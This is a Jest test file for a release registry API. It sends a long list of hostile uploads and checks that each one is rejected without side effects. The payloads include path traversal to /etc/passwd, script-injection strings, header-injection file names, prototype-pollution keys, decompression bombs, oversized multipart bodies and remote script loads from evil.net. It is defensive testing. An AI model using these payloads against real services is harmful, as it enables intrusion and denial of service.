import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { brotliCompressSync, constants, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { releaseLimits } from '@plumbline/contract/releases/registry';
import type { Release, RemoteRoute } from '@plumbline/contract/releases/releases';
import { aRelease, aShell, aTeam, formOf, type TestRelease, type TestTeam } from '../../testing/a-release.ts';
import { openApp, type OpenApp } from '../../testing/open-app.ts';
import { releaseHash } from './release-hash.ts';

// Attacks of a malicious team on the registry. Each is rejected by name; nothing of it is stored, run or written
// outside, no other team's release changes, and other callers are answered meanwhile.

/** The sent request, and the expected answer: the status, and a part of the text. */
type Attack = readonly [name: string, send: () => Promise<Answer>, status: number, says: RegExp];

interface Answer {
  readonly status: number;
  readonly body: unknown;
}

let app: OpenApp;
let team: TestTeam;
let other: TestTeam;
let reader: TestTeam;
let sentinel: string;
let before: string[];

beforeAll(async () => {
  app = await openApp({ shell: aShell, settings: { RELEASE_UPLOADS_PER_HOUR: '10000' } });
  team = await aTeam(app, 'mf-events');
  reader = await aTeam(app, 'mf-reader', { sections: [] });
  other = await aTeam(app);
  const blog = aRelease({ routes: [{ navigation: [{ label: 'Blog', place: 20 }] }] });
  expect((await other.publish(blog)).status).toBe(200);
  expect((await other.post('/releases/mf-blog/promote', { release: blog.release.hash })).status).toBe(200);
  sentinel = join(app.releases.folder, 'sentinel');
  await writeFile(sentinel, 'as it was');
  before = await files();
});
afterAll(async () => {
  await app[Symbol.asyncDispose]();
});

const files = async (): Promise<string[]> =>
  (await readdir(app.releases.folder, { recursive: true })).filter((name) => name !== 'mf-events').toSorted();
const teamRelease = (wanted: Parameters<typeof aRelease>[0] = {}): TestRelease =>
  aRelease({ remote: 'mf-events', ...wanted });
const publish = (wanted: Parameters<typeof aRelease>[0], uploadedFiles?: TestRelease['files']) =>
  team.publish(teamRelease(wanted), uploadedFiles);

/** A description with a valid hash, whatever its content. */
function publishDescription(change: (release: Record<string, unknown>) => object): Promise<Answer> {
  const { release, files: own } = teamRelease();
  const changed = { ...release, ...change(structuredClone(release) as unknown as Record<string, unknown>) };
  let { hash } = changed;
  try {
    hash = releaseHash(changed as Release);
  } catch {
    // It is no release at all.
  }
  return team.publish({ release: { ...changed, hash } as Release, files: own });
}
const publishRoute = (route: Partial<RemoteRoute> | object) => publish({ routes: [route as Partial<RemoteRoute>] });
const publishFile = (path: string) => publish({ files: { [path]: 'x' } });
const sendRaw = (body: BodyInit, headers: Record<string, string> = {}) =>
  fetch(`${app.origin}/api/releases`, {
    method: 'POST',
    headers: { authorization: `Bearer ${team.token}`, ...headers },
    body,
    duplex: 'half',
  } as RequestInit).then(async (answer) => ({ status: answer.status, body: await answer.text() }));
/** A description with additional raw text at its end: for JSON that objects cannot express. */
const publishRawText = (more: string) => {
  const { release, files: own } = teamRelease();
  return sendRaw(formOf(`${JSON.stringify(release).slice(0, -1)},${more}}`, own));
};
const withSizes = (own: Release['files'], bytes: number): Release['files'] =>
  Object.fromEntries(Object.entries(own).map(([path, file]) => [path, { ...file, bytes }]));
const fast = { params: { [constants.BROTLI_PARAM_QUALITY]: 1 } };
const multipart = (parts: string) =>
  sendRaw(`${parts}--b--\r\n`, { 'content-type': 'multipart/form-data; boundary=b' });
const part = (name: string, text: string) => `--b\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${text}\r\n`;
const publishDeclaration = (change: object) =>
  publishDescription(({ declaration }) => ({ declaration: { ...(declaration as object), ...change } }));
const publishContainer = (change: object) =>
  publishDescription(({ container }) => ({ container: { ...(container as object), ...change } }));

const route = /description\.declaration\.routes\.0\.path/;
const notGranted = /not granted to mf-events/;
const badPath = /must be a path of at most five plain names/;

const attacks: readonly Attack[] = [
  // Addresses of others.
  ['an optional segment behind another section', () => publishRoute({ path: '/blog?/evil' }), 400, route],
  ['another section in capitals', () => publishRoute({ path: '/Blog/evil' }), 400, route],
  ['two slashes', () => publishRoute({ path: '//blog/evil' }), 400, route],
  ['an encoded letter', () => publishRoute({ path: '/bl%6fg' }), 400, route],
  ['a letter that looks like another', () => publishRoute({ path: '/bl\u043eg' }), 400, route],
  ['a parameter for every section', () => publishRoute({ path: '/:any' }), 400, route],
  ['an address for everything', () => publishRoute({ path: '/*' }), 400, route],
  ['dots that climb', () => publishRoute({ path: '/events/../checkout' }), 400, route],
  ['the API', () => publishRoute({ path: '/api/docs' }), 400, route],
  ['the files of releases', () => publishRoute({ path: '/releases/mf-blog' }), 400, route],
  ['the own addresses of the site', () => publishRoute({ path: '/_site/snapshot' }), 400, route],
  ['a path that doubles 25 times', () => publishRoute({ path: `/events${'/:a?'.repeat(25)}` }), 400, route],
  ['a path of a megabyte', () => publishRoute({ path: `/events/${'a'.repeat(400_000)}` }), 400, route],
  [
    'a thousand routes',
    () => publish({ routes: Array.from({ length: 1_000 }, (_, at) => ({ path: `/events/${at}` })) }),
    400,
    /routes/,
  ],
  ['a path of five parameters', () => publishRoute({ path: '/events/:a/:b/:c/:d/:e' }), 422, /more than 4 parameters/],
  [
    'a hundred routes of two optional parameters',
    () => publish({ routes: Array.from({ length: 100 }, (_, at) => ({ path: `/events/r${at}/:b?/:c?` })) }),
    422,
    /have 200 optional parameters together, and may have 10/,
  ],
  ['the checkout', () => publishRoute({ path: '/checkout/:plan' }), 422, notGranted],
  ['the terms', () => publishRoute({ path: '/terms' }), 422, notGranted],
  ['the home page', () => publishRoute({ path: '/' }), 422, notGranted],
  ['a page of the blog', () => publishRoute({ path: '/blog/evil' }), 422, notGranted],
  ['a sign-in page of its own', () => publishRoute({ path: '/login' }), 422, notGranted],
  ['an admin page', () => publishRoute({ path: '/admin/orders', admin: true, render: 'browser' }), 422, notGranted],
  ['an admin page that says it is none', () => publishRoute({ path: '/admin/orders' }), 422, notGranted],
  ['the payment policy', () => publishRoute({ policy: 'payments' }), 422, notGranted],
  ['5 MB of scripts', () => publishDeclaration({ budget: 5_000 }), 422, notGranted],
  ['more than any budget', () => publishDeclaration({ budget: 1e9 }), 400, /declaration\.budget/],
  ["an example on another's page", () => publishRoute({ example: 'https://elsewhere.example/' }), 400, /example/],
  // Content that every document of the site would contain.
  ['a page with a name of 300 kB', () => publishRoute({ page: 'a'.repeat(300_000) }), 400, /routes\.0\.page/],
  [
    'a module with a name of 300 kB',
    () => publishContainer({ module: `./${'a'.repeat(300_000)}` }),
    400,
    /container\.module/,
  ],
  [
    'a hundred routes of 400 letters',
    () =>
      publish({
        routes: Array.from({ length: 100 }, (_, at) => ({
          path: `/events/${at}${'a'.repeat(180)}`,
          page: 'a'.repeat(60),
        })),
      }),
    422,
    /in every document of the site/,
  ],
  ['a time that is none', () => publishDescription(() => ({ builtAt: 'not a time' })), 400, /builtAt/],
  ['a revision of 300 kB', () => publishDescription(() => ({ revision: 'a'.repeat(300_000) })), 400, /revision/],
  [
    'a revision with escapes of a terminal',
    () => publishDescription(() => ({ revision: '\u001b[2J' })),
    400,
    /revision/,
  ],
  [
    'a reason with escapes of a terminal',
    () => team.post('/releases/mf-events/rollback', { reason: 'a\u001b[2Jb' }),
    400,
    /reason/,
  ],
  // The header, the sitemap and the share pictures, which all pages have or the site draws.
  ...(
    [
      ['a script', '<script>x</script>'],
      ['a direction of writing turned round', 'Blog\u202egolb'],
      ['letters of no width', 'Blog\u200b'],
      ['letters that look like others', 'Bl\u043eg'],
      ['a line of its own', 'Blog\nLogin'],
      ['marks above marks', `B${'\u0301'.repeat(8)}log`],
      ['thirteen letters', 'a'.repeat(13)],
      ['nothing', ' '],
    ] as const
  ).map(([of, label]): Attack => [
    `an entry in the header of ${of}`,
    () => publishRoute({ navigation: [{ label, place: 1 }] }),
    400,
    /navigation\.0\.label/,
  ]),
  ...(
    [
      ['the name of another team’s', 'BLÓG', 'mf-blog'],
      ['digits in the name of another team’s', 'B10g', 'mf-blog'],
      ['letters of other languages in the name of another team’s', 'Bƚøg', 'mf-blog'],
      ['the name of a link of the header', 'Member Login', 'the header itself'],
    ] as const
  ).map(([of, label, owner]): Attack => [
    `an entry in the header with ${of}`,
    () => publishRoute({ navigation: [{ label, place: 1 }] }),
    422,
    new RegExp(`routes\\.0\\.navigation\\W.*is an entry of ${owner} already`),
  ]),
  [
    'an entry in the header before all others',
    () => publishRoute({ navigation: [{ label: 'Events', place: -1 }] }),
    400,
    /navigation\.0\.place/,
  ],
  [
    'an entry in the header that leads out of its page',
    () => publishRoute({ navigation: [{ label: 'Events', place: 1, section: '/../checkout' }] }),
    400,
    /navigation\.0\.section/,
  ],
  [
    'seven entries in the header for one page',
    () => publishRoute({ navigation: Array.from({ length: 7 }, (_, at) => ({ label: `E${at}`, place: at })) }),
    400,
    /navigation/,
  ],
  [
    'a share picture with a book in it',
    () => publishRoute({ shareCard: { title: 'a'.repeat(5_000), note: 'b' } }),
    400,
    /shareCard/,
  ],
  [
    'a share picture with markup',
    () => publishRoute({ shareCard: { title: '</text><image href="file:///etc/passwd"/>\u0000', note: 'b' } }),
    400,
    /shareCard/,
  ],
  // Descriptions that two readers take for different things.
  [
    'a description that names its remote twice',
    () => publishRawText('"remote":"mf-blog"'),
    403,
    /for mf-events, not for mf-blog/,
  ],
  [
    'a number beyond all numbers',
    () => publishRawText('"files":{"browser/a.js":{"bytes":1e999,"integrity":"x"}}'),
    400,
    /files/,
  ],
  ['a number with a hundred thousand digits', () => publishRawText(`"files":${'9'.repeat(100_000)}`), 400, /files/],
  ['half of a letter', () => publishRoute({ path: '/events/\ud800' }), 400, route],
  [
    'pages named as what all objects inherit',
    () => publishRoute({ page: 'constructor', policy: 'none' }),
    400,
    /policy/,
  ],
  // Requests that are slow to reject.
  [
    'a hundred and seventy thousand routes of nothing',
    () => publishDeclaration({ routes: Array.from({ length: 170_000 }, () => ({})) }),
    413,
    /at most 20000 values/,
  ],
  [
    'nine thousand wrong files',
    () => publishDescription(() => ({ files: Object.fromEntries(Array.from({ length: 9_000 }, (_, at) => [at, 0])) })),
    400,
    /^.{0,20000}$/,
  ],
  // Another remote's name.
  ["another remote's token", () => reader.publish(teamRelease()), 403, /for mf-reader, not for mf-events/],
  ["another remote's name in the declaration", () => publishDeclaration({ name: 'mf-blog' }), 422, /declaration\.name/],
  [
    'a remote whose name climbs',
    () => publishDescription(() => ({ remote: '../mf-blog' })),
    400,
    /description\.remote/,
  ],
  [
    'a hash that climbs',
    () => team.publish(teamRelease({ change: { hash: '../../../mf-blog/aaa' } })),
    400,
    /description\.hash/,
  ],
  [
    'the hash of something else',
    () => team.publish(teamRelease({ change: { hash: '0'.repeat(20) } })),
    422,
    /is not the hash/,
  ],
  ["a container with the blog's global", () => publishContainer({ name: 'mf_blog' }), 422, /container\.name/],
  [
    'a container with the global of another remote whose name goes on',
    () => publishContainer({ name: 'mf_events_calendar' }),
    422,
    /container\.name/,
  ],
  ['a container named as a part of the page', () => publishContainer({ name: 'document' }), 422, /container\.name/],
  [
    'a container whose name is a script',
    () => publishContainer({ name: '</script><script>alert(1)//' }),
    400,
    /container\.name/,
  ],
  [
    "an entry in another's release",
    () => publishContainer({ entry: '../../../mf-blog/x.js' }),
    422,
    /is no file of the release/,
  ],
  [
    'an entry elsewhere',
    () => publishContainer({ entry: 'https://elsewhere.example/x.js' }),
    422,
    /is no file of the release/,
  ],
  // Files.
  ['a file that climbs', () => publishFile('browser/../../../registry-key'), 422, badPath],
  ['an absolute file', () => publishFile('/etc/passwd'), 422, badPath],
  ['a file of Windows', () => publishFile('browser\\..\\..\\key'), 422, badPath],
  ['a file with a zero byte', () => publishFile('browser/a\u0000.js'), 422, badPath],
  ['a hidden file', () => publishFile('browser/.htaccess'), 422, badPath],
  ['a file beside the folders', () => publishFile('release.json'), 422, badPath],
  ['a folder in a folder, eighty times', () => publishFile(`browser/${'a/'.repeat(80)}a.js`), 422, badPath],
  ['a file named as a device of Windows, in a folder of dots', () => publishFile('browser/.../con.js'), 422, badPath],
  ['a file whose name turns round', () => publishFile('browser/a\u202esj.exe'), 422, badPath],
  ['a file with an encoded climb', () => publishFile('browser/%2e%2e/a.js'), 422, badPath],
  ['a file with a query', () => publishFile('browser/a.js?x'), 422, badPath],
  ['a file with a line in its name', () => publishFile('browser/a\r\nset-cookie: a=b.js'), 422, badPath],
  ['a name of a thousand letters', () => publishFile(`browser/${'a'.repeat(1_000)}`), 422, badPath],
  [
    'a file that is a folder as well',
    () => publish({ files: { 'browser/d': '1', 'browser/d/e.js': '2' } }),
    422,
    /files\.browser\/d\W.*is also the folder of another file/,
  ],
  [
    'a file that is a folder as well on a disk without capitals',
    () => publish({ files: { 'browser/D': '1', 'browser/d/e.js': '2' } }),
    422,
    /files\.browser\/D\W.*is also the folder of another file/,
  ],
  [
    'a compressed form that is a folder as well',
    () => {
      const release = teamRelease({ files: { 'browser/remoteEntry.js.br/e.js': '2' } });
      const packed = brotliCompressSync(release.files['browser/remoteEntry.js'] ?? '');
      return team.publish(release, { ...release.files, 'browser/remoteEntry.js.br': packed });
    },
    422,
    /files\.browser\/remoteEntry\.js\.br\W.*is also the folder of another file/,
  ],
  [
    'names that differ by case alone',
    () => publish({ files: { 'browser/a.js': '1', 'browser/A.js': '2' } }),
    422,
    /files\.browser\/A\.js\W.*differs from browser\/a\.js by case alone/,
  ],
  [
    'a file that is not described',
    () => publish({}, { ...teamRelease().files, 'server/more.cjs': 'evil()' }),
    422,
    /is not described/,
  ],
  [
    'a file in place of another',
    () => publish({}, { ...teamRelease().files, 'server/remote.cjs': 'evil.server()' }),
    422,
    /has \d+ bytes/,
  ],
  [
    'a file with the length of another',
    () => publish({}, { ...teamRelease().files, 'browser/remoteEntry.js': '// mf-evenTs' }),
    422,
    /does not have the hash/,
  ],
  [
    'other content when it is unpacked',
    () => publish({}, { ...teamRelease().files, 'browser/remoteEntry.js.br': brotliCompressSync('evil()') }),
    422,
    /is no compressed form/,
  ],
  [
    'ten megabytes in ten kilobytes',
    () => publish({}, { ...teamRelease().files, 'browser/remoteEntry.js.gz': gzipSync(Buffer.alloc(10_000_000)) }),
    422,
    /is no compressed form/,
  ],
  [
    'a file that is said to have sixteen gigabytes',
    () => publishDescription(({ files: own }) => ({ files: withSizes(own as Release['files'], 16 * 1024 ** 3) })),
    400,
    /description\.files/,
  ],
  [
    'a compressed form that is described, so that browsers get something else than the file',
    () => publish({ files: { 'browser/remoteEntry.js.br': brotliCompressSync(Buffer.alloc(9e6)) } }),
    422,
    /files\.browser\/remoteEntry\.js\.br\W.*is a compressed form of browser\/remoteEntry\.js/,
  ],
  [
    'fifteen gigabytes in the compressed forms of files that are said to be larger than they are',
    () => {
      const plain = Object.fromEntries(Array.from({ length: 480 }, (_, at) => [`browser/${at}.js`, 'x']));
      const zeros = brotliCompressSync(Buffer.alloc(releaseLimits.bytes), fast);
      const packed = Object.fromEntries(Object.keys(plain).map((path) => [`${path}.br`, zeros]));
      const release = teamRelease({ files: plain });
      const changed = { ...release.release, files: withSizes(release.release.files, releaseLimits.bytes) };
      return team.publish(
        { release: { ...changed, hash: releaseHash(changed) }, files: release.files },
        { ...release.files, ...packed },
      );
    },
    422,
    // A file that does not match its description is not unpacked.
    /^(?!.*no compressed form).*has 1 bytes, and 33554432 are described/,
  ],
  [
    'a server bundle among the public files',
    () => publishDescription(() => ({ server: 'browser/remoteEntry.js' })),
    422,
    /no file of the release below server/,
  ],
  [
    'a server bundle elsewhere',
    () => publishDescription(() => ({ server: 'server/../../../x.cjs' })),
    422,
    /no file of the release below server/,
  ],
  [
    'scripts of others as its own',
    () => publishDescription(() => ({ assets: { list: ['../../../mf-blog/x.js'] } })),
    422,
    /no files of the release/,
  ],
  ["a page named as an object's insides", () => publishRoute({ page: '__proto__' }), 400, /page/],
  [
    'described files of an object’s insides',
    () =>
      team.publish({
        ...teamRelease(),
        release: JSON.parse(
          JSON.stringify(teamRelease().release).replace('"server/remote.cjs"', '"__proto__"'),
        ) as Release,
      }),
    422,
    /refused|is missing|hash/,
  ],
  // Code of others, and shared code.
  [
    'a script from elsewhere',
    () => publish({ files: { 'browser/remoteEntry.js': 'import("https://cdn.evil.net/x.js")' } }),
    422,
    /loads from https:\/\/cdn\.evil\.net/,
  ],
  [
    'a socket elsewhere',
    () => publish({ files: { 'browser/remoteEntry.js': 'new WebSocket("wss://evil.net/x")' } }),
    422,
    /loads from wss:\/\/evil\.net/,
  ],
  ['a React of its own', () => publishDescription(() => ({ shared: {} })), 422, /shared\.react/],
  [
    'a range that is a program',
    () => publishDescription(() => ({ shared: { react: `^19.0.0 ${'||'.repeat(50_000)}` } })),
    400,
    /shared\.react/,
  ],
  // Bodies that cost.
  ['no form', () => sendRaw('{}', { 'content-type': 'application/json' }), 415, /multipart/],
  [
    'half a form',
    () => sendRaw('--b\r\ncontent-disposition: form-', { 'content-type': 'multipart/form-data; boundary=b' }),
    400,
    /multipart/,
  ],
  ['a hundred thousand fields', () => multipart(part('x', 'y').repeat(100_000)), 400, /must be sent as a file/],
  [
    'the same file twice',
    () =>
      multipart(
        part('description', '{}') +
          `--b\r\ncontent-disposition: form-data; name="a"; filename="a"\r\n\r\nx\r\n`.repeat(2),
      ),
    400,
    /must be sent once/,
  ],
  [
    'two thousand files',
    () => publish({}, Object.fromEntries(Array.from({ length: 2_000 }, (_, at) => [`browser/${at}.js`, 'x']))),
    413,
    /at most 1000 files/,
  ],
  [
    'half a million empty files',
    () => multipart('--b\r\ncontent-disposition: form-data; name="a"; filename="a"\r\n\r\n\r\n'.repeat(500_000)),
    400,
    /must be sent once/,
  ],
  [
    'four hundred thousand empty files with names of their own',
    () =>
      multipart(
        Array.from(
          { length: 400_000 },
          (_, at) => `--b\r\ncontent-disposition: form-data; name="${at}"; filename="a"\r\n\r\n\r\n`,
        ).join(''),
      ),
    413,
    /at most 1000 files/,
  ],
  [
    'thirty megabytes in the name of a file',
    () =>
      multipart(
        `--b\r\ncontent-disposition: form-data; name="${'a'.repeat(30 * 1024 ** 2)}"; filename="a"\r\n\r\nx\r\n`,
      ),
    400,
    /must be sent as a file/,
  ],
  [
    'beginnings of the boundary, thirty megabytes of them',
    () =>
      multipart(
        `--b\r\ncontent-disposition: form-data; name="a"; filename="a"\r\n\r\n${'\r\n--'.repeat(7_500_000)}\r\n`,
      ),
    400,
    /description/,
  ],
  [
    '33 MB of unknown length',
    () =>
      sendRaw(
        new ReadableStream({
          start(controller) {
            for (let at = 0; at < 33; at++) controller.enqueue(new Uint8Array(1024 ** 2));
            controller.close();
          },
        }),
        { 'content-type': 'multipart/form-data; boundary=b' },
      ),
    413,
    /at most 32 MB/,
  ],
  ['33 MB', () => sendRaw(formOf('{}', { 'browser/a.js': Buffer.alloc(33 * 1024 * 1024) })), 413, /at most 32 MB/],
  [
    'a description of a megabyte',
    () => sendRaw(formOf(`{"a":"${'x'.repeat(1024 * 1024)}"}`, {})),
    413,
    /release\.json may have/,
  ],
  [
    'a description of two hundred thousand levels',
    () => sendRaw(formOf('['.repeat(200_000), {})),
    413,
    /at most 20000 values/,
  ],
  ['a description of ten thousand levels', () => sendRaw(formOf('['.repeat(10_000), {})), 400, /not valid JSON/],
  [
    'two megabytes of addresses',
    () => publish({ files: { 'browser/remoteEntry.js': '//a.b/x'.repeat(300_000) } }),
    422,
    /budget/,
  ],
  // Moves.
  [
    "another remote's promotion",
    () => team.post('/releases/mf-blog/promote', { release: '0'.repeat(20) }),
    403,
    /for mf-events, not for mf-blog/,
  ],
  [
    "another remote's rollback",
    () => team.post('/releases/mf-blog/rollback', {}),
    403,
    /for mf-events, not for mf-blog/,
  ],
  [
    "another remote's canary",
    () => team.post('/releases/mf-blog/canary', { percent: 100 }),
    403,
    /for mf-events, not for mf-blog/,
  ],
  [
    'a promotion of what nobody published',
    () => team.post('/releases/mf-events/promote', { release: 'a'.repeat(20) }),
    404,
    /There is no release/,
  ],
  [
    'a grant for itself',
    () => team.post('/releases/mf-events/transfer', { section: '/blog', to: 'mf-events' }),
    401,
    /unauthorized/,
  ],
  [
    "a preview of another remote's release",
    () => team.post('/releases/mf-blog/preview', { release: '0'.repeat(20) }),
    403,
    /for mf-events, not for mf-blog/,
  ],
  [
    'a preview of what nobody published',
    () => team.post('/releases/mf-events/preview', { release: 'a'.repeat(20) }),
    404,
    /There is no release/,
  ],
  [
    'a share of visitors beyond all',
    () => team.post('/releases/mf-events/canary', { release: 'a'.repeat(20), percent: 101 }),
    400,
    /percent/,
  ],
  ["another remote's end", () => team.post('/releases/mf-blog/retire', {}), 403, /for mf-events, not for mf-blog/],
  ["another remote's list", () => team.get('/releases/mf-blog'), 403, /for mf-events, not for mf-blog/],
];

test.each(attacks)('%s', async (_, send, status, says) => {
  let [slowest, memory] = [0, 0];
  let waiting = true;
  const others = (async () => {
    while (waiting) {
      const began = process.cpuUsage();
      const answer = await fetch(`${app.origin}/api/registry`);
      expect(JSON.parse(((await answer.json()) as { registry: string }).registry)).toMatchObject({
        remotes: [{ name: 'mf-blog' }],
      });
      slowest = Math.max(slowest, process.cpuUsage(began).user);
      memory = Math.max(memory, process.memoryUsage.rss());
      // Without a pause, this loop would delay the attack itself on a busy machine, until it times out.
      await pause(5);
    }
  })();
  const memoryBefore = process.memoryUsage.rss();
  const answer = await send();
  waiting = false;
  await others;
  expect([answer.status, JSON.stringify(answer.body)]).toEqual([status, expect.stringMatching(says)]);
  // In µs of the processor, however busy the machine is.
  expect(slowest).toBeLessThan(2_000_000);
  // Sender and receiver are this one process.
  expect((memory - memoryBefore) / 1024 ** 2).toBeLessThan(1_000);
  expect(await files()).toEqual(before);
  expect(await readFile(sentinel, 'utf8')).toBe('as it was');
  expect(await app.db.knex('releases').where({ remote: 'mf-events' })).toEqual([]);
});

test('keys of the object prototype in a description have no effect', async () => {
  const inert = await aTeam(app, 'mf-inert');
  const { release, files: own } = aRelease({ remote: 'mf-inert' });
  const more = '"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}';
  const body = formOf(`${JSON.stringify(release).slice(0, -1)},${more}}`, own);
  const headers = { authorization: `Bearer ${inert.token}` };
  const answer = await fetch(`${app.origin}/api/releases`, { method: 'POST', headers, body });
  expect(answer.status).toBe(200);
  expect('admin' in {}).toBe(false);
  const registered = JSON.stringify((await inert.get('/releases/mf-inert')).body);
  expect(registered).toContain(release.hash);
  expect(registered).not.toMatch(/__proto__|prototype/);
});

test('there are at least forty attacks, as many as the documentation lists', async () => {
  expect(attacks.length).toBeGreaterThanOrEqual(40);
  const document = await readFile(new URL('../../../../docs/security.md', import.meta.url), 'utf8');
  expect(document).toContain(`| ${attacks.length} (\`api/src/releases/registry/hostile-releases.test.ts\`) |`);
});
